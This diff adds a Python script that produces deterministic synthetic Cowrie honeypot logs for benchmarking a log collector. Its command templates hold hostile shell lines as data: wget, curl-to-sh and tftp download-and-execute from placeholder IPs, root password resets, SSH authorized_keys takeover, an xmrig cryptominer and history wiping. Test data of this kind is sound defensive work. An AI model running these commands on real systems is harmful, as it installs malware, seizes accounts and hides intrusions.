@@ -0,0 +1,173 @@
+"""
+Deterministic synthetic honeypot logs for benchmarking the collector.
+
+    python -m benchmarks.synthetic_logs /tmp/honeypot --size-mb 512 --files 4
+    python -m benchmarks.synthetic_logs /tmp/honeypot --lines 1000000 --mix T1105=5,T1082=2 --format json
+
+The same arguments and seed always produce byte-identical files.
+"""
+
+import os
+import json
+import random
+import argparse
+from datetime import datetime, timedelta
+
+# Command templates per technique, matching the default rule set
+TEMPLATES = {
+    'T1105': [
+        "cd /tmp; wget http://{ip}/bins/{arch} -O {name}; chmod 777 {name}; ./{name} {tag}",
+        "curl -s http://{ip}:{port}/{name}.sh | sh",
+        "tftp -g -r {arch} {ip}; chmod +x {arch}; ./{arch}",
+    ],
+    'T1082': [
+        "uname -a",
+        "cat /proc/cpuinfo | grep name | head -n 1 | awk '{{print $4,$5,$6}}'",
+        "free -m | grep Mem | awk '{{print $2 ,$3, $4, $5, $6, $7}}'",
+        "lscpu | grep Model",
+    ],
+    'T1098': [
+        "echo root:{password}|chpasswd|bash",
+        "passwd {user}",
+    ],
+    'T1098.004': [
+        "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa {key} {user}\" >> .ssh/authorized_keys && chmod -R go= ~/.ssh",
+    ],
+    'T1496': [
+        "./xmrig -o stratum+tcp://{ip}:{port} -u {key} -p x",
+        "nohup ./kdevtmpfsi > /dev/null 2>&1 &",
+    ],
+    'T1070.003': [
+        "history -c; rm -rf ~/.bash_history",
+        "unset HISTFILE",
+    ],
+    'T1033': ["whoami", "id", "w"],
+    'T1057': ["ps aux | grep {name}", "top -bn1"],
+    'T1083': ["ls -la /tmp/{name}", "find / -name {name}"],
+    'T1059': ["echo {tag}", "cd /var/tmp", "sh", "enable", "system", "shell"],
+}
+
+DEFAULT_MIX = {'T1105': 25, 'T1082': 20, 'T1059': 15, 'T1033': 10, 'T1083': 8,
+               'T1057': 6, 'T1098': 6, 'T1098.004': 4, 'T1496': 3, 'T1070.003': 3}
+
+NOISE = [
+    "[HoneyPotSSHTransport,{session},{ip}] login attempt [{user}/{password}] failed",
+    "[cowrie.ssh.factory.CowrieSSHFactory] New connection: {ip}:{port} ({ip}:22) [session: {key}]",
+    "[HoneyPotSSHTransport,{session},{ip}] Connection lost after {session} seconds",
+]
+
+ARCHS = ['mips', 'mipsel', 'arm', 'arm7', 'x86', 'x86_64', 'sh4', 'ppc']
+USERS = ['root', 'admin', 'ubuntu', 'pi', 'oracle', 'test', 'user', 'git']
+
+
+class SyntheticLogGenerator:
+    def __init__(self, seed=42, mix=None, noise_ratio=0.5, log_format='cowrie',
+                 distinct_ips=5000, start=datetime(2024, 1, 1)):
+        self.rng = random.Random(seed)
+        mix = mix or DEFAULT_MIX
+        unknown = set(mix) - set(TEMPLATES)
+        if unknown:
+            raise ValueError(f"No templates for techniques: {sorted(unknown)}")
+        self.ttps = list(mix)
+        self.weights = [mix[ttp] for ttp in self.ttps]
+        self.noise_ratio = noise_ratio
+        self.log_format = log_format
+        self.ips = [f"{self.rng.randrange(1, 224)}.{self.rng.randrange(256)}."
+                    f"{self.rng.randrange(256)}.{self.rng.randrange(1, 255)}" for _ in range(distinct_ips)]
+        self.clock = start
+
+    def _fields(self):
+        rng = self.rng
+        return {
+            'ip': rng.choice(self.ips),
+            'port': rng.randrange(1024, 65535),
+            'arch': rng.choice(ARCHS),
+            'name': ''.join(rng.choice('abcdefghijklmnopqrstuvwxyz') for _ in range(rng.randint(3, 8))),
+            'tag': rng.choice(['telnet', 'ssh', 'selfrep', 'x86.bot', 'loader']),
+            'user': rng.choice(USERS),
+            'password': rng.choice(['123456', 'admin', 'password', 'raspberry', 'qwerty', 'root']),
+            'key': '%016x' % rng.getrandbits(64),
+            'session': rng.randrange(1, 1000),
+        }
+
+    def line(self):
+        self.clock += timedelta(milliseconds=self.rng.randrange(1, 2000))
+        timestamp = self.clock.strftime('%Y-%m-%dT%H:%M:%S.%fZ')
+        fields = self._fields()
+        if self.rng.random() < self.noise_ratio:
+            message = self.rng.choice(NOISE).format(**fields)
+            if self.log_format == 'json':
+                return json.dumps({'eventid': 'cowrie.login.failed', 'message': message,
+                                   'src_ip': fields['ip'], 'timestamp': timestamp})
+            return f"{timestamp} {message}"
+        ttp = self.rng.choices(self.ttps, self.weights)[0]
+        command = self.rng.choice(TEMPLATES[ttp]).format(**fields)
+        if self.log_format == 'json':
+            return json.dumps({'eventid': 'cowrie.command.input', 'input': command,
+                               'src_ip': fields['ip'], 'session': fields['key'], 'timestamp': timestamp})
+        return f"{timestamp} [HoneyPotSSHTransport,{fields['session']},{fields['ip']}] CMD: {command}"
+
+    def write(self, path, lines=None, size_bytes=None):
+        """Write a log of `lines` lines or about `size_bytes` bytes; returns (lines, bytes)."""
+        written = 0
+        count = 0
+        buffer = []
+        with open(path, 'w') as f:
+            while (lines is not None and count < lines) or (size_bytes is not None and written < size_bytes):
+                line = self.line() + '\n'
+                buffer.append(line)
+                written += len(line)
+                count += 1
+                if len(buffer) >= 10000:
+                    f.write(''.join(buffer))
+                    buffer = []
+            f.write(''.join(buffer))
+        return count, written
+
+
+def generate_dir(out_dir, files=1, lines=None, size_mb=None, seed=42, mix=None,
+                 noise_ratio=0.5, log_format='cowrie'):
+    """Fill out_dir with `files` logs; lines/size_mb are totals across all files."""
+    os.makedirs(out_dir, exist_ok=True)
+    generator = SyntheticLogGenerator(seed=seed, mix=mix, noise_ratio=noise_ratio, log_format=log_format)
+    total_lines = 0
+    total_bytes = 0
+    total_size = int(size_mb * 1024 * 1024) if size_mb is not None else None
+    for i in range(files):
+        # The remainder goes one line (byte) each to the first files, so the totals are exact
+        per_lines = lines // files + (i < lines % files) if lines is not None else None
+        per_bytes = total_size // files + (i < total_size % files) if size_mb is not None else None
+        n, b = generator.write(os.path.join(out_dir, f'honeypot-{i:03d}.log'), per_lines, per_bytes)
+        total_lines += n
+        total_bytes += b
+    return total_lines, total_bytes
+
+
+def parse_mix(text):
+    mix = {}
+    for part in text.split(','):
+        ttp, _, weight = part.partition('=')
+        mix[ttp.strip()] = float(weight or 1)
+    return mix
+
+
+def main():
+    parser = argparse.ArgumentParser(description='Generate deterministic synthetic honeypot logs.')
+    parser.add_argument('out_dir')
+    group = parser.add_mutually_exclusive_group(required=True)
+    group.add_argument('--lines', type=int, help='total number of lines')
+    group.add_argument('--size-mb', type=float, help='total size in MiB')
+    parser.add_argument('--files', type=int, default=1)
+    parser.add_argument('--seed', type=int, default=42)
+    parser.add_argument('--mix', type=parse_mix, help='technique weights, e.g. T1105=5,T1082=2')
+    parser.add_argument('--noise-ratio', type=float, default=0.5, help='share of non-command lines')
+    parser.add_argument('--format', choices=['cowrie', 'json'], default='cowrie')
+    args = parser.parse_args()
+
+    lines, size = generate_dir(args.out_dir, args.files, args.lines, args.size_mb, args.seed,
+                               args.mix, args.noise_ratio, args.format)
+    print(f"Wrote {lines} lines ({size / 1024 / 1024:.1f} MiB) to {args.out_dir}")
+
+
+if __name__ == "__main__":
+    main()